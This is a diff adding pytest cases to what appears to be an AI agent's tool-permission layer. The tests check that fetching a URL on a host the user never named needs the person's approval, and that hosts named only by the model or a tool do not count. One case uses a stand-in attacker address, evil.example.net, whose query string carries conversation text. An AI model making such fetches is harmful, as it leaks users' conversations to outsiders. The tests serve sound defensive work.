@@ -1,6 +1,7 @@
 """Turns of conversations, under a server that skips time."""
 
 import asyncio
+from dataclasses import replace
 from datetime import timedelta
 
 import pytest
@@ -224,6 +225,41 @@ async def test_after_words_of_strangers_nothing_is_changed_without_a_persons_wor
 
     assert outcomes(steps) == [("look", "done"), ("make", "declined")]
     assert [each.alias for each in house.box.done] == ["look", "make", "mail", "look"]
+
+
+@pytest.mark.parametrize(
+    ("said", "address", "asked"),
+    [
+        ("Read status.example.cn for me.", "https://status.example.cn/today", False),
+        ("What is going on?", "https://status.example.cn/today", True),
+        ("Read status.example.cn for me.", "https://evil.example.net/?all=we+said", True),
+        ("Read status.example.cn for me.", 7, True),
+    ],
+)
+async def test_a_page_of_a_host_that_nobody_named_is_asked_about(house, said, address, asked):
+    """SEC-4: whoever owns an address learns what stands in it, though nothing was read before."""
+    fetch = replace(a_tool("fetch", Care.CHANGES), reads_at="url")
+    house.box.offered = [LOOK, fetch]
+    house.chat.lines = [wants(("look", {}), ("fetch", {"url": address})), says("Done.")]
+    steps = await house.ended(await house.say(said))
+
+    assert outcomes(steps)[1] == ("fetch", "declined" if asked else "done")
+    assert [each.ask for each in house.box.tried if each.alias == "fetch"][:1] == [asked]
+
+
+async def test_what_a_person_named_earlier_in_the_conversation_stays_named(house):
+    """SEC-4: what the model itself said, or a tool answered, names nothing."""
+    fetch = replace(a_tool("fetch", Care.CHANGES), reads_at="url")
+    house.box.offered = [fetch]
+    begun = await house.say("status.example.cn is our page.")
+    house.chat.lines = [says("Shall I read docs.example.cn as well?")]
+    await house.ended(begun)
+    urls = [f"https://{each}.example.cn/" for each in ("status", "docs")]
+    house.chat.lines = [wants(*(("fetch", {"url": each}) for each in urls)), says("Done.")]
+    house.chat.asked = []
+    steps = await house.ended(await house.say("Yes.", to=begun.conversation.id))
+
+    assert outcomes(steps) == [("fetch", "done"), ("fetch", "declined")]
 
 
 async def test_rights_that_are_lost_meanwhile_end_the_turn(house):
